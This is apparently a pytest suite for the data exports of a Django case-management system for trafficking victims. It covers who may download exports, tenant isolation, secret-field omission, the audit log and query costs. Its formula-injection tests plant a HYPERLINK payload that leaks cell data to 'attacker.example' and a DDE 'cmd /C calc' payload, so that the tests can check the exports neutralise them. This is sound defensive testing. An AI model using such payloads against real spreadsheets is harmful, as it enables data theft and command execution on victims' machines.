"""Exports: who may download them, what they contain, formula injection, the audit row, and their cost."""

import csv
import io
from datetime import date

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from accounts.middleware import SESSION_KEY
from accounts.two_factor import two_factor_required
from audit.models import DataAccessLog
from cases import exports, services, statistics
from cases.models import AgencyReferral, RescueRequest, Victim
from tests.factories import AgencyFactory, make_referral, make_request, make_victim, sign_in_verified

pytestmark = pytest.mark.django_db

DATASET_URLS = ["cases:export_victims", "cases:export_requests", "cases:export_referrals"]
EVERY_DOWNLOAD = [(name, fmt) for name in [*DATASET_URLS, "cases:export_statistics"] for fmt in ("csv", "xlsx")]
DANGEROUS_STARTS = ["=", "+", "-", "@", "\t", "\r"]  # the list; NUL (ASVS 5.0 1.2.10) tested below
CLIENT_IP = "203.0.113.7"


def signed_in(user, organization) -> Client:
    client = Client(REMOTE_ADDR=CLIENT_IP)
    if two_factor_required(user):
        sign_in_verified(client, user)
    else:
        client.force_login(user)
    session = client.session
    session[SESSION_KEY] = organization.pk
    session.save()
    return client


def download(client, url_name: str, fmt: str = "csv", **params):
    response = client.get(reverse(url_name), {"format": fmt, **params})
    assert response.status_code == 200, (url_name, fmt, response.status_code)
    body = b"".join(response.streaming_content) if response.streaming else response.getvalue()
    return response, body


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def xlsx_rows(body: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(body)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def xlsx_cells(body: bytes):
    sheet = load_workbook(io.BytesIO(body)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def case_files(org_a, org_b):
    """A case with a request and a referral in each organisation; secrets filled in with synthetic values."""
    agency = AgencyFactory(name="Synthetic Shelter")
    made = {}
    for org, name in ((org_a, "Alpha Person"), (org_b, "Bravo Person")):
        victim = make_victim(
            organization=org.organization,
            created_by=org.caseworker,
            full_name=name,
            passport_number="SYN0000042",
            phone_numbers="+66 800 000 042",
            messaging_handles="Telegram: @synthetic_handle",
            names_in_compound="Compound Alias",
            last_known_location="Building 7, synthetic street",
        )
        request = make_request(victim=victim, opened_by=org.caseworker)
        referral = make_referral(
            victim=victim, agency=agency, created_by=org.caseworker, shared_information="Shared synthetic secret"
        )
        made[org.organization.slug] = (victim, request, referral)
    return made


# --- Who may download ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("url_name", "fmt"), EVERY_DOWNLOAD)
def test_a_caseworker_is_refused_every_export_and_nothing_is_logged(org_a, case_files, url_name, fmt):
    response = signed_in(org_a.caseworker, org_a.organization).get(reverse(url_name), {"format": fmt})

    assert response.status_code == 403
    assert not DataAccessLog.objects.exists()


def test_a_caseworker_is_refused_the_exports_page(org_a):
    assert signed_in(org_a.caseworker, org_a.organization).get(reverse("cases:exports")).status_code == 403


@pytest.mark.parametrize("url_name", ["cases:exports", *DATASET_URLS, "cases:export_statistics"])
def test_an_anonymous_visitor_is_sent_to_sign_in(url_name):
    response = Client().get(reverse(url_name))

    assert response.status_code == 302
    assert reverse("accounts:login") in response["Location"]
    assert not DataAccessLog.objects.exists()


def test_a_supervisor_may_not_download_the_statistics_but_an_org_admin_may(org_a, case_files):
    assert signed_in(org_a.supervisor, org_a.organization).get(reverse("cases:export_statistics")).status_code == 403
    download(signed_in(org_a.org_admin, org_a.organization), "cases:export_statistics")


def test_the_exports_page_offers_statistics_only_to_org_admins(org_a):
    supervisor_page = signed_in(org_a.supervisor, org_a.organization).get(reverse("cases:exports")).content.decode()
    admin_page = signed_in(org_a.org_admin, org_a.organization).get(reverse("cases:exports")).content.decode()

    assert reverse("cases:export_victims") in supervisor_page
    assert reverse("cases:export_statistics") not in supervisor_page
    assert reverse("cases:export_statistics") in admin_page


# --- What an export holds -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["supervisor", "org_admin"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_supervisor_gets_their_organisations_rows_and_never_the_other_organisations(
    org_a, org_b, case_files, role, fmt
):
    client = signed_in(org_a.by_role(role), org_a.organization)
    victim_a, request_a, referral_a = case_files["alpha"]
    victim_b, request_b, referral_b = case_files["bravo"]

    for url_name, own_id, others_id in (
        ("cases:export_victims", None, None),
        ("cases:export_requests", request_a.pk, request_b.pk),
        ("cases:export_referrals", referral_a.pk, referral_b.pk),
    ):
        _, body = download(client, url_name, fmt)
        rows = csv_rows(body) if fmt == "csv" else xlsx_rows(body)
        cells = [str(cell) for row in rows[1:] for cell in row if cell is not None]
        assert len(rows) == 2, url_name  # header + the one row of org A
        assert victim_a.case_number in cells and "Alpha Person" in cells
        assert victim_b.case_number not in cells and "Bravo Person" not in cells
        if own_id is not None:
            assert rows[1][0] in (own_id, str(own_id)) and rows[1][0] not in (others_id, str(others_id))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_never_hold_the_secret_fields(org_a, case_files, fmt):
    client = signed_in(org_a.supervisor, org_a.organization)
    for url_name in DATASET_URLS:
        _, body = download(client, url_name, fmt)
        text = body.decode("utf-8-sig") if fmt == "csv" else repr(xlsx_rows(body))
        for secret in ("SYN0000042", "800 000 042", "synthetic_handle", "Compound Alias", "Building 7", "Shared synth"):
            assert secret not in text, (url_name, secret)


def test_the_victim_export_reads_in_the_users_terms(org_a, case_files):
    _, body = download(signed_in(org_a.supervisor, org_a.organization), "cases:export_victims")
    header, row = csv_rows(body)
    record = dict(zip(header, row, strict=True))

    assert record["case number"] == case_files["alpha"][0].case_number
    assert record["status"] == "Reported"
    assert record["citizenship"] == "Viet Nam"
    assert record["assigned caseworker"] == org_a.caseworker.display_name


def test_the_status_filter_narrows_the_export_and_is_logged(org_a, case_files):
    closed = make_victim(organization=org_a.organization, created_by=org_a.caseworker, full_name="Closed Person")
    services.victim_change_status(victim=closed, to_status="closed", changed_by=org_a.supervisor, reason="Moved away")

    _, body = download(signed_in(org_a.supervisor, org_a.organization), "cases:export_victims", status="closed")

    assert [row[0] for row in csv_rows(body)[1:]] == [closed.case_number]
    assert DataAccessLog.objects.get().detail["filters"] == {"status": ["closed"]}


def test_an_unknown_status_or_format_is_a_clear_400_and_not_logged(org_a, case_files):
    client = signed_in(org_a.supervisor, org_a.organization)

    bad_status = client.get(reverse("cases:export_victims"), {"status": "hacked"})
    bad_format = client.get(reverse("cases:export_victims"), {"format": "pdf"})

    assert bad_status.status_code == 400 and b"Unknown status" in bad_status.content
    assert bad_format.status_code == 400 and b"CSV or XLSX" in bad_format.content
    assert not DataAccessLog.objects.exists()


# --- Formula injection --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("start", DANGEROUS_STARTS, ids=repr)
def test_a_cell_starting_with_a_formula_character_is_neutralised_in_csv(org_a, start):
    payload = f'{start}HYPERLINK("http://attacker.example/?x="&A1,"Click")'
    victim = make_victim(organization=org_a.organization, created_by=org_a.caseworker, full_name=payload)
    Victim.objects.filter(pk=victim.pk).update(closed_reason=f"{start}1+1")  # a second free-text column

    _, body = download(signed_in(org_a.supervisor, org_a.organization), "cases:export_victims", "csv")
    header, row = csv_rows(body)
    record = dict(zip(header, row, strict=True))

    assert record["full name"] == "'" + payload
    assert record["reason for closing"] == f"'{start}1+1"
    assert not any(cell.startswith(tuple(DANGEROUS_STARTS)) for cell in row)


@pytest.mark.parametrize("start", DANGEROUS_STARTS, ids=repr)
def test_a_cell_starting_with_a_formula_character_is_neutralised_in_xlsx(org_a, start):
    payload = f"{start}cmd|' /C calc'!A0"
    victim = make_victim(organization=org_a.organization, created_by=org_a.caseworker, full_name=payload)
    request = make_request(victim=victim, opened_by=org_a.caseworker)
    RescueRequest.objects.filter(pk=request.pk).update(outcome=f"{start}SUM(1,2)")
    client = signed_in(org_a.supervisor, org_a.organization)

    _, victims_body = download(client, "cases:export_victims", "xlsx")
    _, requests_body = download(client, "cases:export_requests", "xlsx")

    for body, expected in ((victims_body, "'" + payload), (requests_body, f"'{start}SUM(1,2)")):
        cells = xlsx_cells(body)
        # XML reads a carriage return back as a line feed: compare modulo that; the leading ' is what matters.
        assert expected.replace("\r", "\n") in [cell.value for cell in cells]
        assert not any(cell.data_type == "f" for cell in cells)  # no cell is stored as a formula
        assert not any(isinstance(c.value, str) and c.value.startswith(tuple(DANGEROUS_STARTS)) for c in cells)


def test_neutralise_leaves_ordinary_text_alone_and_covers_full_width_signs_and_leading_spaces():
    assert exports.neutralise("Alpha Person") == "Alpha Person"
    assert exports.neutralise("a=b") == "a=b"
    assert exports.neutralise("＝1+1") == "'＝1+1"
    assert exports.neutralise("  =1+1") == "'  =1+1"
    assert exports.neutralise("\u00a0@SUM(A1)") == "'\u00a0@SUM(A1)"


def test_characters_xml_cannot_hold_do_not_break_the_xlsx(org_a):
    victim = make_victim(organization=org_a.organization, created_by=org_a.caseworker, full_name="Name")
    Victim.objects.filter(pk=victim.pk).update(full_name="Bad\x07Name")

    _, body = download(signed_in(org_a.supervisor, org_a.organization), "cases:export_victims", "xlsx")

    assert "BadName" in [cell.value for cell in xlsx_cells(body)]


@pytest.mark.parametrize("value", ["\0=1+1", "\0plain", "\x07=1+1"], ids=repr)
def test_a_leading_nul_or_a_formula_behind_a_stripped_control_character_is_quoted(org_a, value):
    # PostgreSQL cannot store NUL, so this goes through the writers directly (it could come from any future source).
    organization = org_a.organization
    csv_text = "".join(exports.csv_lines(header=["h"], rows=[[value]], organization=organization))
    xlsx_body = exports.xlsx_file(title="t", header=["h"], rows=[[value]], organization=organization).read()

    csv_cell_value = csv_rows(csv_text.encode())[1][0]
    xlsx_cell_value = xlsx_rows(xlsx_body)[1][0]
    if value.startswith("\0"):
        assert csv_cell_value == "'" + value
    assert xlsx_cell_value.startswith("'") and "\x07" not in xlsx_cell_value and "\0" not in xlsx_cell_value


# --- Audit ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("url_name", "fmt"), EVERY_DOWNLOAD)
def test_every_export_writes_its_log_row(org_a, org_b, case_files, url_name, fmt):
    user = org_a.org_admin
    download(signed_in(user, org_a.organization), url_name, fmt)

    entry = DataAccessLog.objects.get()
    assert entry.user == user
    assert entry.organization == org_a.organization
    assert entry.ip_address == CLIENT_IP
    assert entry.detail["format"] == fmt
    if url_name == "cases:export_statistics":
        assert entry.kind == DataAccessLog.Kind.STATISTICS
        assert entry.object_count == 1  # org A's one case; org B's is not counted
    else:
        assert entry.kind == DataAccessLog.Kind.EXPORT
        assert entry.detail["dataset"] == url_name.removeprefix("cases:export_")
        assert entry.object_count == 1


def test_the_log_is_append_only(org_a, case_files):
    download(signed_in(org_a.supervisor, org_a.organization), "cases:export_victims")
    entry = DataAccessLog.objects.get()
    from audit.models import AppendOnlyError

    entry.object_count = 0
    with pytest.raises(AppendOnlyError):
        entry.save()
    with pytest.raises(AppendOnlyError):
        entry.delete()
    with pytest.raises(AppendOnlyError):
        DataAccessLog.objects.filter(pk=entry.pk).update(object_count=0)
    with pytest.raises(AppendOnlyError):
        DataAccessLog.objects.all().delete()
    assert DataAccessLog.objects.get().object_count == 1


def test_org_admins_see_their_log_in_the_admin_but_cannot_change_or_delete_it(org_a, org_b, case_files):
    download(signed_in(org_a.supervisor, org_a.organization), "cases:export_victims")
    download(signed_in(org_b.supervisor, org_b.organization), "cases:export_victims")
    own, others = (
        DataAccessLog.objects.get(organization=org_a.organization),
        DataAccessLog.objects.get(organization=org_b.organization),
    )
    org_a.org_admin.is_staff = True
    org_a.org_admin.save()
    client = sign_in_verified(Client(), org_a.org_admin)

    changelist = client.get(reverse("admin:audit_dataaccesslog_changelist"))
    assert changelist.status_code == 200
    assert reverse("admin:audit_dataaccesslog_change", args=[own.pk]) in changelist.content.decode()
    assert reverse("admin:audit_dataaccesslog_change", args=[others.pk]) not in changelist.content.decode()
    assert client.get(reverse("admin:audit_dataaccesslog_change", args=[others.pk])).status_code in (302, 403, 404)
    assert client.post(reverse("admin:audit_dataaccesslog_delete", args=[own.pk]), {"post": "yes"}).status_code == 403
    assert client.post(reverse("admin:audit_dataaccesslog_change", args=[own.pk]), {}).status_code == 403
    assert DataAccessLog.objects.count() == 2


# --- De-identified statistics -------------------------------------------------------------------------------------


def _victims_in_group(org, count: int, **fields):
    return [make_victim(organization=org.organization, created_by=org.caseworker, **fields) for _ in range(count)]


def test_statistics_keep_groups_of_eleven_and_suppress_smaller_ones_without_identifiers(org_a, org_b):
    common = {"sex": "Masculine", "estimated_age": 25, "exploitation_types": ["ForcedCriminalityScamWork"]}
    big = _victims_in_group(org_a, 11, full_name="Big Group Person", citizenship="VN", **common)
    small = _victims_in_group(org_a, 3, full_name="Small Group Person", citizenship="KH", **common)
    _victims_in_group(org_b, 12, full_name="Other Org Person", citizenship="KH", **common)  # never counted for A

    _, body = download(signed_in(org_a.org_admin, org_a.organization), "cases:export_statistics")
    text = body.decode("utf-8-sig")
    header, *rows = csv_rows(body)
    records = [dict(zip(header, row, strict=True)) for row in rows]

    demographics = [r for r in records if r["table"] == "demographics"]
    assert {"table": "demographics", "age band": "24-26", "sex": "Masculine", "citizenship": "Viet Nam"}.items() <= (
        demographics[0].items()
    )
    assert demographics[0]["people"] == "11"
    assert not any(r["citizenship"] == "Cambodia" for r in records)  # 3 people: suppressed (org B's 12 not mixed in)
    assert [r["people"] for r in demographics if r["age band"] == "suppressed groups"] == ["<11"]
    exploitation = [r for r in records if r["table"] == "exploitation" and r["age band"] != "suppressed groups"]
    assert [(r["type of exploitation"], r["people"]) for r in exploitation] == [
        ("Forced criminality / scam work", "14")
    ]
    assert all(r["people"] in ("<11",) or int(r["people"]) >= statistics.STATISTICS_MIN_GROUP for r in records)
    for victim in (*big, *small):
        assert victim.case_number not in text
    assert "Group Person" not in text
    assert "case number" not in header and "id" not in [h.lower() for h in header]


def test_statistics_use_ctdc_age_bands():
    assert [statistics.age_band(age) for age in (0, 8, 9, 17, 18, 20, 21, 26, 29, 30, 38, 39, 47, 48, 90, None)] == [
        "0-8",
        "0-8",
        "9-17",
        "9-17",
        "18-20",
        "18-20",
        "21-23",
        "24-26",
        "27-29",
        "30-38",
        "30-38",
        "39-47",
        "39-47",
        "48+",
        "48+",
        "Unknown",
    ]
    assert (
        statistics.age_at_registration(
            date_of_birth=date(2000, 6, 1), estimated_age=None, registered_on=date(2026, 5, 31)
        )
        == 25
    )


def test_statistics_take_a_bounded_number_of_queries(org_a):
    _victims_in_group(org_a, 3, full_name="Person")
    client = signed_in(org_a.org_admin, org_a.organization)
    client.get(reverse("cases:exports"))  # warm the session

    with CaptureQueriesContext(connection) as few:
        download(client, "cases:export_statistics")
    _bulk_victims(org_a.organization, 300)
    with CaptureQueriesContext(connection) as many:
        download(client, "cases:export_statistics")

    assert len(many.captured_queries) == len(few.captured_queries)


# --- Cost ---------------------------------------------------------------------------------------------------------


def _bulk_victims(organization, count: int, start: int = 10000):
    victims = Victim.objects.bulk_create(
        [
            Victim(
                organization=organization,
                case_number=f"{organization.case_number_prefix}-2026-{start + i:05d}",
                full_name=f"Synthetic Bulk {start + i}",
                citizenship="MM",
            )
            for i in range(count)
        ]
    )
    agency = AgencyFactory()
    requests = RescueRequest.objects.bulk_create(
        [
            RescueRequest(organization=organization, victim=victim, next_follow_up_at=victim.created_at)
            for victim in victims
        ]
    )
    AgencyReferral.objects.bulk_create(
        [
            AgencyReferral(organization=organization, victim=request.victim, rescue_request=request, agency=agency)
            for request in requests
        ]
    )


@pytest.mark.parametrize("url_name", DATASET_URLS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_takes_the_same_number_of_queries_for_50_and_500_rows(org_a, org_b, url_name, fmt):
    client = signed_in(org_a.supervisor, org_a.organization)
    _bulk_victims(org_a.organization, 50)
    client.get(reverse("cases:exports"))  # warm the session

    with CaptureQueriesContext(connection) as small:
        _, small_body = download(client, url_name, fmt)
    _bulk_victims(org_a.organization, 450, start=20000)
    with CaptureQueriesContext(connection) as large:
        _, large_body = download(client, url_name, fmt)

    small_rows = csv_rows(small_body) if fmt == "csv" else xlsx_rows(small_body)
    large_rows = csv_rows(large_body) if fmt == "csv" else xlsx_rows(large_body)
    assert (len(small_rows), len(large_rows)) == (51, 501)
    assert len(large.captured_queries) == len(small.captured_queries) <= 12
